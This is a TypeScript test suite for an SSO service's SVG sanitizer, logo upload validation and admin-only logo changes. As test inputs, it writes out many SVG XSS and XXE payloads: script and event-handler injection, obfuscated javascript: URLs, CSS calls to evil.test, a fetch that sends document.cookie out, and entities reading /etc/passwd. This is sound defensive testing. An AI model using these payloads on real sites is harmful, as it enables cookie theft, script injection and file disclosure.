import { describe, expect, it } from "vitest";
import { and, auditEvents, eq } from "@gatehouse/db";
import { getConnection, LOGO_MAX_BYTES, readLogo, removeConnectionLogo, sanitizeSvg, setConnectionLogo, SVG_ENTITIES_REFUSED } from "../../src";
import { makeSamlConnection, useSsoStack } from "../flows/harness";

const NOT_AN_IMAGE = { ok: false, error: "This file is not a PNG, JPG or SVG image." };
const SVG_NS = 'xmlns="http://www.w3.org/2000/svg"';
const utf8 = (text: string) => new TextEncoder().encode(text);
const clean = (svg: string) => {
  const result = sanitizeSvg(svg);
  if (!result.ok) throw new Error(`refused: ${result.error}`);
  return result.value;
};

describe("sanitizeSvg", () => {
  it("takes everything active out of a malicious SVG and keeps the drawing", () => {
    const malicious = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="https://evil.test/x.css" type="text/css"?>
<!DOCTYPE svg [ <!ENTITY unused SYSTEM "file:///etc/passwd"> ]>
<!-- exported by a tool -->
<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml" viewBox="0 0 10 10" onload="alert(1)">
  <script>alert(document.cookie)</script>
  <script type="text/javascript"><![CDATA[ fetch("https://evil.test/?" + document.cookie) ]]></script>
  <svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(2)</svg:script>
  <html:script>alert(3)</html:script>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(4)"></iframe></div></foreignObject>
  <iframe src="https://evil.test"/>
  <a href="javascript:alert(5)"><rect width="5" height="5" fill="red" onclick="alert(6)" onMouseOver="alert(7)"/></a>
  <a xlink:href="&#106;avascript:alert(8)"><circle r="1"/></a>
  <a href=" java&#x09;script:alert(9)"><circle r="2"/></a>
  <image href="https://evil.test/track.png" width="1" height="1"/>
  <use xlink:href="https://evil.test/sprite.svg#icon"/>
  <set attributeName="href" to="javascript:alert(10)"/>
  <animate attributeName="xlink:href" values="javascript:alert(11)"/>
  <style>@import url("https://evil.test/x.css");</style>
  <style>rect { background: url(https://evil.test/bg.png) }</style>
  <style>rect { fill: \\75rl(https://evil.test/e) }</style>
  <rect width="1" height="1" style="fill: url('https://evil.test/f')" xml:base="https://evil.test/"/>
  <handler type="application/ecmascript">alert(12)</handler>
  <path d="M0 0L10 10" stroke="black"/>
</svg>`;
    const output = clean(malicious);
    for (const bad of [
      "script",
      "alert",
      "onload",
      "onclick",
      "onMouseOver",
      "javascript",
      "foreignObject",
      "iframe",
      "DOCTYPE",
      "ENTITY",
      "passwd",
      "@import",
      "evil.test",
      "xml-stylesheet",
      "handler",
      "<!--",
      "xml:base",
      "<set",
      "<animate",
    ]) {
      expect(output, bad).not.toContain(bad);
    }
    expect(output).toContain('<path d="M0 0L10 10" stroke="black"/>');
    expect(output).toContain('<rect width="5" height="5" fill="red"/>');
    expect(output).toContain('<image width="1" height="1"/>');
    expect(output.startsWith(`<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`)).toBe(true);
    // What is left is still well-formed SVG.
    expect(sanitizeSvg(output)).toEqual({ ok: true, value: output });
  });

  it("keeps internal links, embedded images, gradients and harmless styles", () => {
    const svg = `<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">
<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#000"/></linearGradient><circle id="dot" r="2"/></defs>
<style><![CDATA[ .a { fill: url(#g); } .b > rect { opacity: .5 } ]]></style>
<rect class="a" width="20" height="20" fill="url(#g)" style="stroke: url( '#g' )"/>
<use xlink:href="#dot" x="5" y="5"/><use href="#dot"/>
<image href="data:image/png;base64,iVBORw0KGgo=" width="2" height="2"/>
<text x="1" y="10">A &amp; B &lt;3</text>
</svg>`;
    const output = clean(svg);
    expect(output).toContain("<style> .a { fill: url(#g); } .b &gt; rect { opacity: .5 } </style>");
    expect(output).toContain('fill="url(#g)" style="stroke: url( \'#g\' )"');
    expect(output).toContain('<use xlink:href="#dot" x="5" y="5"/><use href="#dot"/>');
    expect(output).toContain('href="data:image/png;base64,iVBORw0KGgo="');
    expect(output).toContain("A &amp; B &lt;3");
  });

  it("expands an editor's plain text entities, never anything more, and adds the SVG namespace when missing", () => {
    const illustrator = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
  <!ENTITY ns_svg "http://www.w3.org/2000/svg">
  <!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
]><svg xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;"><rect width="1" height="1"/></svg>`;
    expect(clean(illustrator)).toBe(`<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="1" height="1"/></svg>`);
    expect(sanitizeSvg(`<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg ${SVG_NS}><text>&xxe;</text></svg>`)).toEqual({
      ok: false,
      error: SVG_ENTITIES_REFUSED,
    });
    expect(sanitizeSvg(`<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]><svg ${SVG_NS}><text>&x;</text></svg>`)).toEqual({
      ok: false,
      error: SVG_ENTITIES_REFUSED,
    });
    // An entity's value is text: no second round of expansion (billion laughs), no markup.
    expect(clean(`<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg ${SVG_NS}><text>&b;</text></svg>`)).toBe(
      `<svg ${SVG_NS}><text>&amp;a;&amp;a;&amp;a;</text></svg>`,
    );
    expect(clean(`<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]><svg ${SVG_NS}><text>&s;</text><a href="&s;"><rect/></a></svg>`)).toBe(
      `<svg ${SVG_NS}><text>&lt;script&gt;alert(1)&lt;/script&gt;</text><a><rect/></a></svg>`,
    );
    expect(sanitizeSvg(`<svg ${SVG_NS}><text>&nbsp;</text></svg>`)).toEqual(NOT_AN_IMAGE);
    expect(clean(`<svg xmlns="http://www.w3.org/1999/xhtml"><rect width="1" height="1"/></svg>`)).toBe(`<svg ${SVG_NS}><rect width="1" height="1"/></svg>`);
    expect(clean(`<svg><g><rect width="1" height="1"/></g></svg>`)).toBe(`<svg ${SVG_NS}><g><rect width="1" height="1"/></g></svg>`);
  });

  const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
  const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
  const XHTML = "http://www.w3.org/1999/xhtml";
  const RECT = '<rect width="1" height="1"/>';
  // The classic SVG XSS vectors; each must lose its active part and keep the drawing.
  const vectors: { name: string; svg: string; gone: string[] }[] = [
    { name: "<script>", svg: `<svg ${SVG_NS}><script>alert(1)</script>${RECT}</svg>`, gone: ["script", "alert"] },
    { name: "onload on the root", svg: `<svg ${SVG_NS} onload="alert(1)">${RECT}</svg>`, gone: ["onload", "alert"] },
    {
      name: "an event handler on a shape",
      svg: `<svg ${SVG_NS}><g onmouseover="alert(1)" ONCLICK="alert(2)">${RECT}</g></svg>`,
      gone: ["mouseover", "ONCLICK", "alert"],
    },
    { name: "xlink:href javascript:", svg: `<svg ${SVG_NS} ${XLINK}><a xlink:href="javascript:alert(1)">${RECT}</a></svg>`, gone: ["javascript", "alert"] },
    {
      name: "javascript: hidden by references and whitespace",
      svg: `<svg ${SVG_NS}><a href=" &#x6A;ava&#x0A;script:alert(1)">${RECT}</a></svg>`,
      gone: ["script", "alert"],
    },
    {
      name: "foreignObject with HTML",
      svg: `<svg ${SVG_NS}><foreignObject width="9" height="9"><body xmlns="${XHTML}"><img src="x" onerror="alert(1)"/><iframe src="javascript:alert(2)"/></body></foreignObject>${RECT}</svg>`,
      gone: ["foreignObject", "body", "img", "onerror", "iframe", "alert"],
    },
    { name: "<use href> to another site", svg: `<svg ${SVG_NS}><use href="http://127.0.0.1:9/sprite.svg#icon"/>${RECT}</svg>`, gone: ["<use", "127.0.0.1"] },
    {
      name: "<use xlink:href> to another site",
      svg: `<svg ${SVG_NS} ${XLINK}><use xlink:href="//127.0.0.1:9/sprite.svg#icon"/>${RECT}</svg>`,
      gone: ["<use", "127.0.0.1"],
    },
    {
      name: "<use> of a data: SVG document with a script",
      svg: `<svg ${SVG_NS}><use href="data:image/svg+xml;base64,${b64(`<svg id="x" ${SVG_NS}><script>alert(1)</script></svg>`)}#x"/>${RECT}</svg>`,
      gone: ["<use", "data:"],
    },
    {
      name: "a link to a data: SVG document",
      svg: `<svg ${SVG_NS}><a href="data:image/svg+xml;base64,${b64(`<svg ${SVG_NS} onload="alert(1)"/>`)}">${RECT}</a></svg>`,
      gone: ["data:", "href"],
    },
    { name: "CSS url() in <style>", svg: `<svg ${SVG_NS}><style>rect { fill: url(http://127.0.0.1:9/x) }</style>${RECT}</svg>`, gone: ["<style", "127.0.0.1"] },
    {
      name: "CSS url() in style=",
      svg: `<svg ${SVG_NS}><rect width="1" height="1" style="fill: url('http://127.0.0.1:9/x')"/></svg>`,
      gone: ["style", "127.0.0.1"],
    },
    {
      name: "CSS url() in a presentation attribute",
      svg: `<svg ${SVG_NS}><rect width="1" height="1" fill="url(//127.0.0.1:9/x)"/></svg>`,
      gone: ["fill", "127.0.0.1"],
    },
    {
      name: "CSS @import spelt with an escape",
      svg: `<svg ${SVG_NS}><style>@\\69mport "http://127.0.0.1:9/x.css";</style>${RECT}</svg>`,
      gone: ["<style", "127.0.0.1"],
    },
    {
      name: "SMIL <set> rewriting href",
      svg: `<svg ${SVG_NS}><a href="#x"><set attributeName="href" to="javascript:alert(1)"/>${RECT}</a></svg>`,
      gone: ["<set", "javascript"],
    },
    {
      name: "HTML markup inside <style>",
      svg: `<svg ${SVG_NS}><style><img xmlns="${XHTML}" src="x" onerror="alert(1)"/></style>${RECT}</svg>`,
      gone: ["img", "onerror", "alert"],
    },
    {
      name: "an HTML script under another prefix",
      svg: `<svg ${SVG_NS}><h:script xmlns:h="${XHTML}">alert(1)</h:script>${RECT}</svg>`,
      gone: ["script", "alert"],
    },
    {
      name: "the svg prefix bound to HTML",
      svg: `<svg ${SVG_NS}><svg:iframe xmlns:svg="${XHTML}" src="javascript:alert(1)"/>${RECT}</svg>`,
      gone: ["iframe", "javascript"],
    },
    {
      name: "a DOCTYPE defaulting onload",
      svg: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg ${SVG_NS}>${RECT}</svg>`,
      gone: ["ATTLIST", "onload", "alert"],
    },
  ];

  it.each(vectors)("removes $name", ({ svg, gone }) => {
    const output = clean(svg);
    for (const bad of gone) expect(output, bad).not.toContain(bad);
    expect(output).toContain("<rect");
    expect(output.startsWith(`<svg ${SVG_NS}`)).toBe(true);
  });

  it("refuses elements nested deeper than 128 levels, before building a tree of them", () => {
    const nested = (depth: number) => `<svg ${SVG_NS}>${"<g>".repeat(depth)}<rect/>${"</g>".repeat(depth)}</svg>`;
    expect(sanitizeSvg(nested(126)).ok).toBe(true);
    expect(sanitizeSvg(nested(128))).toEqual(NOT_AN_IMAGE);
    expect(sanitizeSvg(nested(20_000))).toEqual(NOT_AN_IMAGE);
  });

  it("refuses documents that are not well-formed SVG", () => {
    for (const input of [
      "",
      "just text",
      `<html><body><svg ${SVG_NS}/></body></html>`,
      `<svg ${SVG_NS}><rect></svg>`,
      `<svg ${SVG_NS}><rect width="1></svg>`,
      `<svg ${SVG_NS}/><svg ${SVG_NS}/>`,
      `<svg ${SVG_NS}>a & b</svg>`,
      `<SVG ${SVG_NS}></SVG>`,
    ]) {
      expect(sanitizeSvg(input), input).toEqual(NOT_AN_IMAGE);
    }
  });
});

describe("readLogo", () => {
  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);
  const jpeg = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]);

  it("recognises PNG and JPEG by their magic bytes, whatever the name or declared type", () => {
    expect(readLogo(png)).toEqual({
      ok: true,
      value: { contentType: "image/png", dataUrl: `data:image/png;base64,${Buffer.from(png).toString("base64")}`, bytes: png.length },
    });
    expect(readLogo(jpeg)).toMatchObject({ ok: true, value: { contentType: "image/jpeg", dataUrl: expect.stringMatching(/^data:image\/jpeg;base64,\/9j\//) } });
  });

  it("stores SVGs sanitised", () => {
    const result = readLogo(utf8(`\uFEFF<svg ${SVG_NS}><script>alert(1)</script><circle r="1"/></svg>`));
    expect(result).toMatchObject({ ok: true, value: { contentType: "image/svg+xml" } });
    if (!result.ok) return;
    expect(Buffer.from(result.value.dataUrl.replace("data:image/svg+xml;base64,", ""), "base64").toString("utf8")).toBe(`<svg ${SVG_NS}><circle r="1"/></svg>`);
  });

  it("refuses anything else", () => {
    expect(readLogo(utf8("GIF89a\u0001\u0000"))).toEqual(NOT_AN_IMAGE);
    expect(readLogo(utf8("%PDF-1.7"))).toEqual(NOT_AN_IMAGE);
    expect(readLogo(utf8("<html><script>alert(1)</script></html>"))).toEqual(NOT_AN_IMAGE);
    expect(readLogo(new Uint8Array([0x3c, 0x73, 0x76, 0x67, 0xff, 0xfe]))).toEqual(NOT_AN_IMAGE);
    expect(readLogo(new Uint8Array([0x89, 0x50, 0x4e]))).toEqual(NOT_AN_IMAGE);
    expect(readLogo(new Uint8Array())).toEqual({ ok: false, error: "The file is empty. Choose a PNG, JPG or SVG image." });
  });

  it("allows 100 KB and refuses more, saying how large the file is", () => {
    const atLimit = new Uint8Array(LOGO_MAX_BYTES);
    atLimit.set(png);
    expect(readLogo(atLimit).ok).toBe(true);
    const over = new Uint8Array(LOGO_MAX_BYTES + 1);
    over.set(png);
    expect(readLogo(over)).toEqual({ ok: false, error: "The logo is 101 KB; the limit is 100 KB." });
    const huge = new Uint8Array(2 * 1024 * 1024);
    expect(readLogo(huge)).toEqual({ ok: false, error: "The logo is 2048 KB; the limit is 100 KB." });
  });
});

const stack = useSsoStack();
const audits = (connectionId: string, action: string) =>
  stack.ctx.db
    .select()
    .from(auditEvents)
    .where(and(eq(auditEvents.targetId, connectionId), eq(auditEvents.action, action)));

const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);

describe("connection logo", () => {
  it("stores an accepted logo as a data URL, audits it, and removes it", async () => {
    const setup = await makeSamlConnection(stack, "logo-set");
    const base = { accountId: setup.account.id, connectionId: setup.connection.id, actor: setup.actor };
    const set = await setConnectionLogo(stack.ctx, { ...base, fileName: "logo.png", contentType: "image/png", bytes: PNG });
    expect(set).toEqual({ ok: true, value: { logoDataUrl: `data:image/png;base64,${Buffer.from(PNG).toString("base64")}` } });
    expect((await getConnection(stack.ctx.db, setup.account.id, setup.connection.id))?.logoDataUrl).toBe(set.ok ? set.value.logoDataUrl : "");
    expect(await audits(setup.connection.id, "sso.connection.logo_set")).toHaveLength(1);

    const svg = await setConnectionLogo(stack.ctx, {
      ...base,
      fileName: "logo.svg",
      contentType: "image/svg+xml",
      bytes: new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="4" height="4"/></svg>'),
    });
    expect(svg.ok).toBe(true);
    const stored = (await getConnection(stack.ctx.db, setup.account.id, setup.connection.id))!.logoDataUrl!;
    expect(stored.startsWith("data:image/svg+xml;base64,")).toBe(true);
    expect(Buffer.from(stored.split(",")[1]!, "base64").toString("utf8")).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>');

    expect(await removeConnectionLogo(stack.ctx, base)).toEqual({ ok: true, value: undefined });
    expect((await getConnection(stack.ctx.db, setup.account.id, setup.connection.id))?.logoDataUrl).toBeNull();
    expect(await audits(setup.connection.id, "sso.connection.logo_removed")).toHaveLength(1);
  });

  it("refuses other files and non-admins, and changes nothing", async () => {
    const setup = await makeSamlConnection(stack, "logo-refuse");
    const base = { accountId: setup.account.id, connectionId: setup.connection.id, actor: setup.actor };
    await setConnectionLogo(stack.ctx, { ...base, fileName: "logo.png", contentType: "image/png", bytes: PNG });
    const before = await getConnection(stack.ctx.db, setup.account.id, setup.connection.id);

    const gif = new TextEncoder().encode("GIF89a....");
    expect(await setConnectionLogo(stack.ctx, { ...base, fileName: "logo.png", contentType: "image/png", bytes: gif })).toEqual({
      ok: false,
      error: "This file is not a PNG, JPG or SVG image.",
    });
    const big = new Uint8Array(150 * 1024);
    big.set(PNG);
    expect(await setConnectionLogo(stack.ctx, { ...base, fileName: "big.png", contentType: "image/png", bytes: big })).toEqual({
      ok: false,
      error: "The logo is 150 KB; the limit is 100 KB.",
    });
    const memberActor = { userId: setup.member.id, label: setup.member.email, ip: null };
    expect(await setConnectionLogo(stack.ctx, { ...base, actor: memberActor, fileName: "logo.png", contentType: "image/png", bytes: PNG })).toEqual({
      ok: false,
      error: "Only account admins can configure SSO.",
    });
    expect(await removeConnectionLogo(stack.ctx, { ...base, actor: memberActor })).toEqual({ ok: false, error: "Only account admins can configure SSO." });

    const after = await getConnection(stack.ctx.db, setup.account.id, setup.connection.id);
    expect(after?.logoDataUrl).toBe(before?.logoDataUrl);
    expect(after?.updatedAt).toEqual(before?.updatedAt);
    expect(await audits(setup.connection.id, "sso.connection.logo_set")).toHaveLength(1);
  });
});
